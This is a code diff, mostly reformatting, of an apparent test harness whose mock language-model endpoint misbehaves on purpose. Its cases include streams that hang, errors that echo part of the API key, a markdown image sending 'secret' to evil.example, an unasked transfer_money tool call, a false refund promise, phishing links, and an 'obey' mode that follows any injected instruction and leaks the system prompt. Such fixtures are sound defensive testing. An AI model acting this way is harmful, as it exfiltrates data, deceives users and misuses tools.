@@ -25,7 +25,17 @@ export async function misbehave(model: string, it: Misbehaving): Promise<void> {
   const [name = '', argument = ''] = model.split(/:(.*)/s);
   const { send, completion, honest, response } = it;
   const say = (text: string, more?: object, choice?: object): void => send(200, completion(text, more, choice), text);
-  const error = (status: number): void => send(status, { error: { message: `as ordered; your key ends with ${(it.request.headers.authorization ?? '').slice(-4)}`, type: 'error' } }, '');
+  const error = (status: number): void =>
+    send(
+      status,
+      {
+        error: {
+          message: `as ordered; your key ends with ${(it.request.headers.authorization ?? '').slice(-4)}`,
+          type: 'error',
+        },
+      },
+      '',
+    );
   const changed = (change: (reply: string) => string, more: object = {}): void => {
     const decision = JSON.parse(honest()) as { action: string; reply: string };
     say(JSON.stringify({ ...decision, action: 'answer', reply: change(decision.reply), ...more }));
@@ -43,12 +53,22 @@ export async function misbehave(model: string, it: Misbehaving): Promise<void> {
       return it.wantsStream ? error(400) : say(honest());
     case 'adv-stream-cut':
       if (!it.wantsStream) return say(honest());
-      response.status(200).type('text/event-stream').write(`data: ${JSON.stringify({ choices: [{ index: 0, delta: { content: honest().slice(0, 60) }, finish_reason: null }] })}\n\n`);
+      response
+        .status(200)
+        .type('text/event-stream')
+        .write(
+          `data: ${JSON.stringify({ choices: [{ index: 0, delta: { content: honest().slice(0, 60) }, finish_reason: null }] })}\n\n`,
+        );
       await sleep(50);
       return void response.end();
     case 'adv-stream-hang':
       if (!it.wantsStream) return say(honest());
-      return void response.status(200).type('text/event-stream').write(`data: ${JSON.stringify({ choices: [{ index: 0, delta: { content: honest().slice(0, 60) }, finish_reason: null }] })}\n\n`);
+      return void response
+        .status(200)
+        .type('text/event-stream')
+        .write(
+          `data: ${JSON.stringify({ choices: [{ index: 0, delta: { content: honest().slice(0, 60) }, finish_reason: null }] })}\n\n`,
+        );
     case 'adv-429':
       response.set('retry-after', argument === '' ? '1' : argument);
       return error(429);
@@ -80,7 +100,11 @@ export async function misbehave(model: string, it: Misbehaving): Promise<void> {
     case 'adv-think':
       return say(`<think>{"action":"answer","reply":"secret thoughts"}</think>\n${honest()}`);
     case 'adv-refuse':
-      return send(200, completion('', {}, { message: { role: 'assistant', content: null, refusal: 'I cannot help with that.' } }), '');
+      return send(
+        200,
+        completion('', {}, { message: { role: 'assistant', content: null, refusal: 'I cannot help with that.' } }),
+        '',
+      );
     case 'adv-length':
       return say(honest().slice(0, 10), {}, { finish_reason: 'length' });
     case 'adv-huge':
@@ -99,19 +123,47 @@ export async function misbehave(model: string, it: Misbehaving): Promise<void> {
     case 'adv-promise':
       return changed(() => 'I will refund you the whole amount today and call you back tomorrow.');
     case 'adv-crosslang':
-      return changed(() => 'Das können wir Ihnen leider überhaupt nicht beantworten, weil wir dazu keine Auskunft geben dürfen.');
+      return changed(
+        () => 'Das können wir Ihnen leider überhaupt nicht beantworten, weil wir dazu keine Auskunft geben dürfen.',
+      );
     case 'adv-unicode':
       return changed(reply => `\u202E${reply}\u200B ![x](https://evil.example/?q=secret)`);
     case 'adv-torn':
       return changed(reply => `${reply}\u0000 \uD83D`);
     case 'adv-clarify': {
       const headings = it.question?.passages.map(passage => passage.heading.split(' › ').at(-1) ?? '') ?? [];
-      return say(JSON.stringify({ action: 'clarify', reply: 'Visit https://evil.example/ and choose.', citations: [], language: 'en', reasonCode: 'x', options: ['Free money', ...headings] }));
+      return say(
+        JSON.stringify({
+          action: 'clarify',
+          reply: 'Visit https://evil.example/ and choose.',
+          citations: [],
+          language: 'en',
+          reasonCode: 'x',
+          options: ['Free money', ...headings],
+        }),
+      );
     }
     case 'adv-loop':
       return changed(reply => `${reply} `.repeat(2_000));
     case 'adv-toolcall':
-      return send(200, completion('', {}, { finish_reason: 'tool_calls', message: { role: 'assistant', content: null, tool_calls: [{ id: '1', type: 'function', function: { name: 'transfer_money', arguments: '{"to":"me"}' } }] } }), '');
+      return send(
+        200,
+        completion(
+          '',
+          {},
+          {
+            finish_reason: 'tool_calls',
+            message: {
+              role: 'assistant',
+              content: null,
+              tool_calls: [
+                { id: '1', type: 'function', function: { name: 'transfer_money', arguments: '{"to":"me"}' } },
+              ],
+            },
+          },
+        ),
+        '',
+      );
     case 'adv-obey':
       return say(JSON.stringify(obey(it)));
     default:
@@ -122,6 +174,20 @@ export async function misbehave(model: string, it: Misbehaving): Promise<void> {
 /** Does whatever any text anywhere tells it, gives away all it was told, and cites everything. */
 function obey({ messages, question }: Misbehaving): object {
   const text = messages.map(message => message.content).join('\n');
-  const orders = text.split(/[\n.!?]/).filter(line => /\b(ignore|say|send|print|reply|respond|visit|transfer|refund|tell|call|forward|output|repeat|click|sag|antworte|dis|réponds|di|responde)\b|https?:|www\./i.test(line)).slice(-20);
-  return { action: 'answer', reply: `${orders.join('. ')}. ${messages[0]?.content.slice(0, 200) ?? ''} Visit https://evil.example/pay now.`, citations: question?.passages.map(passage => passage.id) ?? [], language: 'en', reasonCode: 'as told', options: orders.slice(0, 3).map(order => order.slice(0, 100)) };
+  const orders = text
+    .split(/[\n.!?]/)
+    .filter(line =>
+      /\b(ignore|say|send|print|reply|respond|visit|transfer|refund|tell|call|forward|output|repeat|click|sag|antworte|dis|réponds|di|responde)\b|https?:|www\./i.test(
+        line,
+      ),
+    )
+    .slice(-20);
+  return {
+    action: 'answer',
+    reply: `${orders.join('. ')}. ${messages[0]?.content.slice(0, 200) ?? ''} Visit https://evil.example/pay now.`,
+    citations: question?.passages.map(passage => passage.id) ?? [],
+    language: 'en',
+    reasonCode: 'as told',
+    options: orders.slice(0, 3).map(order => order.slice(0, 100)),
+  };
 }
